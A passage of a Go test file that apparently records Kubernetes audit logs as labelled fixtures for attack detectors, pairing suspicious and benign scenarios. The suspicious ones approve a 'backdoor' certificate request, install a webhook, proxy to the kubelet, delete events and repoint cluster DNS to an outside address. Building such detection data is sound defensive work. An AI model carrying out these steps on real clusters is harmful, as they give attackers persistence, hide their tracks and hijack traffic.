				Status: corev1.ConditionTrue, Reason: "Manual", Message: "ok"})
			_, err = admin.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, "backdoor", csr, metav1.UpdateOptions{})
			must("approve", err)
		}},
		{"csr-created-or-approved.neg", func() {
			_, err := admin.CertificatesV1().CertificateSigningRequests().List(ctx, metav1.ListOptions{})
			must("list csr", err)
		}},
		{"admission-webhook-changed.pos", func() {
			path, fail, side := "/validate", admissionregv1.Ignore, admissionregv1.SideEffectClassNone
			_, err := admin.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregv1.ValidatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "policy-hook"},
				Webhooks: []admissionregv1.ValidatingWebhook{{Name: "policy.example.com", FailurePolicy: &fail, SideEffects: &side,
					AdmissionReviewVersions: []string{"v1"},
					ClientConfig:            admissionregv1.WebhookClientConfig{Service: &admissionregv1.ServiceReference{Namespace: ns, Name: "policy", Path: &path}},
					Rules: []admissionregv1.RuleWithOperations{{Operations: []admissionregv1.OperationType{admissionregv1.Create},
						Rule: admissionregv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"configmaps"}}}},
					NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"policy": "enforced"}}}}}, metav1.CreateOptions{})
			must("webhook", err)
		}},
		{"admission-webhook-changed.neg", func() {
			_, err := admin.AdmissionregistrationV1().ValidatingWebhookConfigurations().List(ctx, metav1.ListOptions{})
			must("list webhooks", err)
		}},
		{"kubelet-proxy.pos", func() {
			_ = admin.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/worker-1/proxy/pods").Do(ctx).Error()
		}},
		{"kubelet-proxy.neg", func() {
			_, err := admin.CoreV1().Nodes().Get(ctx, "worker-1", metav1.GetOptions{})
			must("get node", err)
		}},
		{"events-deleted.pos", func() {
			must("delete events", admin.CoreV1().Events(ns).DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}))
		}},
		{"events-deleted.neg", func() {
			_, err := admin.CoreV1().Events(ns).List(ctx, metav1.ListOptions{})
			must("list events", err)
		}},
		{"dns-config-changed.pos", func() {
			_, err := admin.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"},
				Data: map[string]string{"Corefile": ".:53 {\n    forward . 203.0.113.53\n}\n"}}, metav1.CreateOptions{})
			must("coredns configmap", err)
		}},
		{"dns-config-changed.neg", func() {
			_, err := admin.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"},
				Data: map[string]string{"Corefile": ".:53 {\n    forward . 10.96.0.10\n}\n"}}, metav1.CreateOptions{})
			must("configmap", err)
		}},
		{"node-credentials-used-elsewhere.pos", func() {
			_, err := sa.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{})
			must("sa lists pods", err)
		}},
		{"node-credentials-used-elsewhere.neg", func() {
			_, err := admin.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{})
			must("admin lists pods", err)
		}},
	}
	for _, s := range scenarios {
		rec.start(s.name)
		s.run()
	}
	rec.start("")
	waitQuiet(t, c.AuditLogPath)

	// Cut the audit log.
	lines := readLines(t, c.AuditLogPath)
	byID := map[string][][]byte{}
	var benign [][]byte
	for _, l := range lines {
		var head struct {
			AuditID string `json:"auditID"`
			Stage   string `json:"stage"`
		}
		if err := json.Unmarshal(l.data, &head); err != nil {
			t.Fatalf("audit log line: %v", err)
		}
		byID[head.AuditID] = append(byID[head.AuditID], l.data)
		if l.at <= benignEnd {
			benign = append(benign, l.data)
		}
	}
	if err := os.MkdirAll(recordedDir, 0o755); err != nil {
		t.Fatal(err)
	}
	writeGz(t, filepath.Join(recordedDir, "benign.jsonl.gz"), benign)
	for _, name := range rec.order {
		if name == "benign" || name == "setup" || name == "" {
			continue
		}
		var out [][]byte
		for _, id := range rec.cases[name] {
			if len(byID[id]) == 0 {
				t.Errorf("%s: request %s was not audited", name, id)
			}
			out = append(out, byID[id]...)
		}
		writeLines(t, filepath.Join(recordedDir, name+".jsonl"), out)
	}
	t.Logf("recorded %d benign events and %d scenarios", len(benign), len(scenarios))
}

func ingress(ctx context.Context, t *testing.T, admin kubernetes.Interface, ns, name string, tls bool) {
	t.Helper()
	pt := networkingv1.PathTypePrefix
	ing := &networkingv1.Ingress{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: networkingv1.IngressSpec{
		Rules: []networkingv1.IngressRule{{Host: name + ".shop.example", IngressRuleValue: networkingv1.IngressRuleValue{HTTP: &networkingv1.HTTPIngressRuleValue{
			Paths: []networkingv1.HTTPIngressPath{{Path: "/", PathType: &pt, Backend: networkingv1.IngressBackend{
				Service: &networkingv1.IngressServiceBackend{Name: "checkout", Port: networkingv1.ServiceBackendPort{Number: 80}}}}}}}}}}}
	if tls {
		ing.Spec.TLS = []networkingv1.IngressTLS{{Hosts: []string{name + ".shop.example"}, SecretName: name + "-tls"}}
	}
	if _, err := admin.NetworkingV1().Ingresses(ns).Create(ctx, ing, metav1.CreateOptions{}); err != nil {
		t.Fatalf("ingress: %v", err)
	}
}

func forbiddenList(ctx context.Context, cs kubernetes.Interface, resource string) error {
	group := "/api/v1"
	switch resource {
	case "deployments":
		group = "/apis/apps/v1"
	case "roles", "rolebindings", "clusterroles":
		group = "/apis/rbac.authorization.k8s.io/v1"
	}
	path := group + "/namespaces/payments/" + resource
	if resource == "nodes" || resource == "namespaces" || resource == "clusterroles" {
		path = group + "/" + resource
	}
	return cs.CoreV1().RESTClient().Get().AbsPath(path).Do(ctx).Error()
}

func csrPEM(t *testing.T, cn, org string) []byte {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: []string{org}}}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}

func poll(ctx context.Context, t *testing.T, what string, cond wait.ConditionWithContextFunc) {
	t.Helper()
	if err := wait.PollUntilContextCancel(ctx, 100*time.Millisecond, true, cond); err != nil {
		t.Fatalf("waiting for %s: %v", what, err)
	}
}

type logLine struct {
	data []byte
	at   int // line number
}

// waitQuiet waits until the audit log stops growing for a second and
// returns its line count.
func waitQuiet(t *testing.T, path string) int {
	t.Helper()
	last, stable := -1, 0
	for stable < 5 {
		time.Sleep(200 * time.Millisecond)
		n := len(readLines(t, path))
		if n == last {
			stable++
		} else {
			stable, last = 0, n
		}
	}
	return last
}

func readLines(t *testing.T, path string) []logLine {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out []logLine
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 1<<20), 64<<20)
	for sc.Scan() {
		if len(bytes.TrimSpace(sc.Bytes())) == 0 {
			continue
		}
		out = append(out, logLine{data: append([]byte(nil), sc.Bytes()...), at: len(out) + 1})
	}
	return out
}

func writeLines(t *testing.T, path string, lines [][]byte) {
	t.Helper()
	var b bytes.Buffer
	for _, l := range lines {
		b.Write(l)
		b.WriteByte('\n')
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func writeGz(t *testing.T, path string, lines [][]byte) {
	t.Helper()
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	for _, l := range lines {
		zw.Write(l)
		zw.Write([]byte{'\n'})
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}
